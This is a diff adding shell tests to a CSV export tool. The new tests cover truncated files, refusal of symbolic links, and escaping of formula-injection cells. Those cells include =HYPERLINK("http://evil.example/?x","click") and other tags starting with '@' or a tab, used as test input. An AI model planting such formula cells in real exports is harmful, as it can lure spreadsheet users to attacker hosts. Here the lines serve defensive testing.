@@ -1,8 +1,9 @@
 #!/bin/sh
 # SPDX-License-Identifier: MIT
 # accel-csv's files: the header rules (new, empty, matching, mismatching
-# files, and stdout appended to a file), wide-format column changes, daily
-# rotation on a fake clock, size rotation that never splits a report, a
+# files, and stdout appended to a file), files that end in a partial row,
+# formula injection, wide-format column changes, daily rotation on a fake
+# clock, size rotation that never splits a report, a
 # file removed while in use, and command-line errors.
 . "$(dirname "$0")/lib.sh"
 
@@ -80,6 +81,64 @@ rc=0
 is "$rc" 3 "stdout >> a file with another header: status 3"
 is "$(cat "$WORK/bad-stdout.csv")" x "and nothing written"
 
+# ---- a file that does not end in a whole row ------------------------------------------------
+F=$WORK/cut.csv
+ok "partial: a first run" run 0 -o "$F" <"$S2X"
+truncate -s -20 "$F"
+ok "partial: a run after truncate(1) cut the last row" run 0 -o "$F" <"$S2X"
+ok "partial: the warning says how many bytes were cut off" \
+	grep -q "csv: $F ended in a partial row .*cut off its last [0-9]* bytes, back to its last whole row" "$WORK/err"
+ok "partial: every row has the header's fields" \
+	$PY -c 'import csv,sys; r=list(csv.reader(open(sys.argv[1]))); sys.exit(len({len(x) for x in r}) != 1)' "$F"
+"$CSV" --host fx <"$S2X" >"$WORK/one.csv"
+{ sed '$d' "$WORK/one.csv" && sed 1d "$WORK/one.csv"; } >"$WORK/cut.want"
+ok "partial: the first run's rows but the cut one, then the second run's" cmp "$F" "$WORK/cut.want"
+F=$WORK/nonl.csv
+head -1 "$WORK/new.csv" | tr -d '\n' >"$F"
+ok "partial: a header without its newline" run 0 -o "$F" <"$S2X"
+is "$(headers "$F")" 1 "partial: the first row is not glued to it, no second header"
+ok "partial: every row reads back" check --input "$S2X" --now $NOW_MS --step 1000 "$F"
+F=$WORK/quote.csv
+head -1 "$WORK/new.csv" >"$F"
+printf '2026,"an unterminated quote\n' >>"$F"
+$PY -c 'import sys; sys.stdout.write("1,2\n" * 300000)' >>"$F"
+cp "$F" "$WORK/quote.orig"
+ok "partial: 1.2 MB after an unterminated quote is refused with status 3" run 3 -o "$F" <"$S2X"
+ok "partial: the message says where and what" \
+	grep -q "csv: $F does not end in a whole row: its last 1200028 bytes (from byte [0-9]*) are an unterminated quoted field" "$WORK/err"
+ok "partial: and the file is left as it was" cmp "$F" "$WORK/quote.orig"
+ok "partial: with --rotate, it goes on in the next file" run 0 -o "$F" --rotate 10M <"$S2X"
+ok "partial: whose rows read back" check --input "$S2X" --now $NOW_MS --step 1000 "$WORK/quote.1.csv"
+
+# ---- formula injection -------------------------------------------------------------------------
+# Runtime tags a process chooses, and a --host, that a spreadsheet would run as formulas.
+$PY - "$S2X" >"$WORK/hostile.jsonl" <<'PY'
+import json, sys
+tags = ['=HYPERLINK("http://evil.example/?x","click")', "-5", "@SUM(A1)", "\tcmd"]
+for i, line in enumerate(open(sys.argv[1])):
+    r = json.loads(line)
+    for k, rt in enumerate(r["neuron_runtime_data"]):
+        rt["neuron_runtime_tag"] = tags[(i + k) % len(tags)]
+    print(json.dumps(r, separators=(",", ":")))
+PY
+F=$WORK/formula.csv
+ok "formula: long" run 0 ACCEL_CSV_NOW_STEP=1s -o "$F" <"$WORK/hostile.jsonl"
+ok "formula: the hyperlink is written as text" grep -q "^[^,]*,fx,execution_stats,\"'=HYPERLINK(" "$F"
+ok "formula: a tag that is a number (-5) is not touched" grep -q ",execution_stats,-5,execution_errors_total," "$F"
+ok "formula: every cell reads back, text escaped" check --input "$WORK/hostile.jsonl" --now $NOW_MS --step 1000 "$F"
+"$CSV" --host "+host" <"$WORK/hostile.jsonl" >"$WORK/formula-host.csv"
+ok "formula: --host +host is escaped too" grep -q "^[^,]*,'+host,instance_info," "$WORK/formula-host.csv"
+ok "formula: wide" run 0 --format wide -o "$WORK/formula-w.csv" <"$WORK/hostile.jsonl"
+ok "formula: wide reads back" check --format wide --input "$WORK/hostile.jsonl" --now $NOW_MS --step 1000 \
+	"$WORK/formula-w.csv"
+ok "formula: --no-formula-escape" run 0 --no-formula-escape -o "$WORK/formula-raw.csv" <"$WORK/hostile.jsonl"
+ok "formula: --no-formula-escape writes the cells as they are" \
+	grep -q "^[^,]*,fx,execution_stats,\"=HYPERLINK(" "$WORK/formula-raw.csv"
+ok "formula: which the checker tells apart" sh -c '! "$@" 2>/dev/null' sh \
+	$PY "$HELP/csv_check.py" --host fx --input "$WORK/hostile.jsonl" --now $NOW_MS --step 1000 "$WORK/formula-raw.csv"
+ok "formula: and reads back with --no-formula-escape" check --no-formula-escape --input "$WORK/hostile.jsonl" \
+	--now $NOW_MS --step 1000 "$WORK/formula-raw.csv"
+
 # ---- wide column changes ----------------------------------------------------------
 mkdir -p "$WORK/w"
 ok "wide: first run" run 0 --format wide -o "$WORK/w/acc.csv" <"$ACC"
@@ -152,6 +211,20 @@ wait "$pid" || true
 is "$(headers "$WORK/gone.csv")" 1 "removed: a new file with its header"
 is "$(grep -c ',fx,instance_info,' "$WORK/gone.csv")" 1 "removed: the next report is in it"
 ok "removed: a warning says so" grep -q "gone.csv was removed or replaced while open" "$WORK/gone.err"
+
+# ---- symbolic links in the rotation chain ----------------------------------------------------
+mkdir -p "$WORK/l"
+ln -s "$WORK/l/elsewhere.csv" "$WORK/l/x.9.csv"
+ok "links: a dangling x.9.csv link is refused with status 1" run 1 -o "$WORK/l/x.csv" --rotate 1M <"$S2X"
+ok "links: its target is not created" test ! -e "$WORK/l/elsewhere.csv"
+ok "links: the message names the link" grep -q "csv: $WORK/l/x.9.csv is a symbolic link" "$WORK/err"
+ln -s "$WORK/l/other.csv" "$WORK/l/y.csv"
+ok "links: -o naming a link is refused too" run 1 -o "$WORK/l/y.csv" <"$S2X"
+ok "links: and its target is not created" test ! -e "$WORK/l/other.csv"
+cp "$WORK/empty.csv" "$WORK/l/real.csv"
+ln -s "$WORK/l/real.csv" "$WORK/l/z.csv"
+ok "links: a link to an existing file is refused" run 1 -o "$WORK/l/z.csv" <"$S2X"
+ok "links: and that file is left as it was" cmp "$WORK/l/real.csv" "$WORK/empty.csv"
 
 # ---- --fsync ---------------------------------------------------------------------------------
 ok "--fsync" run 0 --fsync -o "$WORK/sync.csv" <"$S2X"
